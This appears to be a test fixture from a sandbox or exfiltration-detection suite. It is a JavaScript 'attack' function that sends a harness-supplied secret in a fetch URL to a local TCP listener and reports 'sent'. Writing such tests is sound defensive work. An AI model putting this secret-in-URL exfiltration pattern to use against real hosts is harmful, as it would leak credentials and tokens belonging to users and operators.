// Global fetch (undici) with the secret in the URL.
export const meta = { kind: 'network', evidence: 'tcp' };
export default async function attack(ctx) {
  try {
    const response = await fetch(`http://127.0.0.1:${ctx.tcpPort}/${ctx.secret}`, { signal: AbortSignal.timeout(5000) });
    await response.text();
    return 'sent';
  } catch (error) {
    throw error.cause ?? error;
  }
}
